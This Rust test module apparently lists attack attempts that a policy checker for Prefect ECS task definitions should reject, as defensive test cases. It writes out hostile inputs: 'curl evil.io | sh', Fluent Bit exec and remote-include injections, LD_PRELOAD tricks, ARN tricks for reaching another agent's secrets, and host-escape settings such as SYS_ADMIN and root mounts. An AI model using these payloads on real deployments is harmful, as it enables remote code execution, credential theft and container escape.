//! What containers start with, are given and may do.

use super::*;

pub(super) fn commands() -> Vec<Attempt> {
    let evil = json!(["sh", "-c", "curl evil.io | sh"]);
    let logs = |what, options: Value| {
        let configuration = json!({"logDriver": "awsfirelens", "options": options});
        change(what, &at(CONTAINER, "logConfiguration"), configuration, Rule::Command)
    };
    vec![
        change("another command", &at(OVERRIDE, "command"), evil.clone(), Rule::Command),
        change(
            "one word more",
            &at(OVERRIDE, "command"),
            json!(["prefect", "flow-run", "execute", "--x"]),
            Rule::Command,
        ),
        change(
            "a command of a container without a name",
            NEW_OVERRIDE,
            json!({"command": evil.clone()}),
            Rule::Command,
        ),
        change(
            "a command of a container that does not exist",
            NEW_OVERRIDE,
            json!({"name": "x", "command": evil.clone()}),
            Rule::Command,
        ),
        change("a command of a sidecar", &at(SIDECAR, "command"), evil.clone(), Rule::Command),
        change(
            "an entry point before Prefect's own command",
            &at(CONTAINER, "entryPoint"),
            evil.clone(),
            Rule::Command,
        ),
        change(
            "a command that asks whether the container is well",
            &at(SIDECAR, "healthCheck"),
            json!({"command": evil.clone()}),
            Rule::Command,
        ),
        logs("a plugin of a router that runs commands", json!({"@type": "exec", "command": "sh /x"})),
        logs("another file for a router", json!({"@include": "https://evil.io/x"})),
        logs("a second line for a router", json!({"region": "x\n[INPUT]\n    Name exec\n    Command sh /x"})),
        logs("Ruby within a text for a router", json!({"region": "\"#{`sh /x`}\""})),
        change(
            "a second line as the name of a secret",
            &at(CONTAINER, "logConfiguration"),
            json!({"logDriver": "awsfirelens", "secretOptions": [{"name": "a\n@type exec", "valueFrom": "/flows/x"}]}),
            Rule::Command,
        ),
        change(
            "what a router of logs runs",
            &at(SIDECAR, "firelensConfiguration"),
            json!({"type": "fluentbit", "options": {"config-file-type": "s3", "config-file-value": "arn:aws:s3:::evil/x"}}),
            Rule::Command,
        ),
    ]
}

pub(super) fn variables() -> Vec<Attempt> {
    let variable = |what, name: &str| {
        change(what, &at(OVERRIDE, "environment/+"), json!({"name": name, "value": "x"}), Rule::Environment)
    };
    vec![
        variable("a denied variable", "LD_PRELOAD"),
        variable("a denied variable in small letters", "aws_profile"),
        variable("a denied variable after a blank", " AWS_PROFILE"),
        variable("a name with its value in it", "LD_PRELOAD=/tmp/x.so"),
        variable("a name that ends early", "LD_PRELOAD\0x"),
        variable("a variable of the agent's with another value", "PREFECT_API_URL"),
        change(
            "a denied variable of a sidecar",
            &at(SIDECAR, "environment"),
            json!([{"name": "AWS_CA_BUNDLE", "value": "x"}]),
            Rule::Environment,
        ),
        change(
            "a denied variable of a container that does not exist",
            NEW_OVERRIDE,
            json!({"name": "x", "environment": [{"name": "AWS_PROFILE", "value": "x"}]}),
            Rule::Environment,
        ),
        change(
            "variables in a file",
            &at(CONTAINER, "environmentFiles"),
            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
            Rule::Environment,
        ),
        change(
            "variables in a file, as an override",
            &at(OVERRIDE, "environmentFiles"),
            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
            Rule::Environment,
        ),
        change(
            "a denied variable as a secret",
            &at(CONTAINER, "secrets"),
            json!([{"name": "LD_PRELOAD", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x"}]),
            Rule::Environment,
        ),
    ]
}

pub(super) fn secrets() -> Vec<Attempt> {
    let secret = |what, from: &str| {
        change(what, &at(CONTAINER, "secrets"), json!([{"name": "KEY", "valueFrom": from}]), Rule::Secrets)
    };
    vec![
        secret("another agent's key by its name", "/prefect-serverless-agent/prod/secrets/other/api-key"),
        secret(
            "another agent's key by its ARN",
            "arn:aws:ssm:eu-west-1:123456789012:parameter/prefect-serverless-agent/prod/secrets/other/api-key",
        ),
        secret("a secret whose name begins like it", "arn:aws:secretsmanager:eu-west-1:1:secret:flows-admin/x"),
        secret(
            "a secret with an allowed name as its key",
            "arn:aws:secretsmanager:eu-west-1:1:secret:admin:secret:flows/x",
        ),
        secret("an allowed parameter of another account", "arn:aws:ssm:eu-west-1:999999999999:parameter/flows/x"),
        secret("nothing", ""),
        change(
            "a secret of a sidecar",
            &at(SIDECAR, "secrets"),
            json!([{"name": "KEY", "valueFrom": "/other"}]),
            Rule::Secrets,
        ),
        change(
            "a secret of a driver of logs",
            &at(CONTAINER, "logConfiguration"),
            json!({"logDriver": "splunk", "secretOptions": [{"name": "splunk-token", "valueFrom": "/other"}]}),
            Rule::Secrets,
        ),
        change(
            "credentials of a domain",
            &at(CONTAINER, "credentialSpecs"),
            json!(["credentialspec:arn:aws:ssm:eu-west-1:1:parameter/other"]),
            Rule::Secrets,
        ),
        change(
            "credentials of a file whose name has an allowed ARN in it",
            &at(CONTAINER, "credentialSpecs"),
            json!(["credentialspec:file://x-arn:aws:ssm:eu-west-1:123456789012:parameter/flows/x"]),
            Rule::Secrets,
        ),
        change(
            "the password of a file server",
            "RegisterTaskDefinition/volumes/+",
            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration":
            {"fileSystemId": "fs", "rootDirectory": "x", "authorizationConfig": {"credentialsParameter": "/other", "domain": "x"}}}),
            Rule::Secrets,
        ),
    ]
}

pub(super) fn machines() -> Vec<Attempt> {
    let privilege = |what, place: &str, value| change(what, &at(SIDECAR, place), value, Rule::Privileged);
    let volume = |what, value| change(what, "RegisterTaskDefinition/volumes/+", value, Rule::Volumes);
    vec![
        privilege("a privileged sidecar", "privileged", json!(true)),
        privilege("a capability", "linuxParameters/capabilities/add", json!(["SYS_ADMIN"])),
        privilege("a device", "linuxParameters/devices", json!([{"hostPath": "/dev/sda"}])),
        privilege("without a profile of security", "dockerSecurityOptions", json!(["apparmor:unconfined"])),
        change("the machine's processes", "RegisterTaskDefinition/pidMode", json!("host"), Rule::Privileged),
        change("the machine's memory", "RegisterTaskDefinition/ipcMode", json!("host"), Rule::Privileged),
        volume("a path of the machine", json!({"name": "x", "host": {"sourcePath": "/"}})),
        volume(
            "a path of the machine beside what is allowed",
            json!({"name": "x", "host": {"sourcePath": "/"}, "efsVolumeConfiguration": {"fileSystemId": "fs"}}),
        ),
        volume(
            "a plugin of Docker",
            json!({"name": "x", "dockerVolumeConfiguration": {"driver": "local", "driverOpts": {"device": "/"}}}),
        ),
        volume(
            "a file server",
            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration": {"fileSystemId": "fs", "rootDirectory": "x",
            "authorizationConfig": {"credentialsParameter": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x", "domain": "x"}}}),
        ),
        volume("a bucket", json!({"name": "x", "s3filesVolumeConfiguration": {"fileSystemArn": "arn"}})),
        volume("what is said later", json!({"name": "x", "configuredAtLaunch": true})),
        change(
            "a disk from a snapshot",
            "RunTask/volumeConfigurations",
            json!([{"name": "x", "managedEBSVolume": {"roleArn": "flows-execution", "snapshotId": "snap-1"}}]),
            Rule::Volumes,
        ),
    ]
}
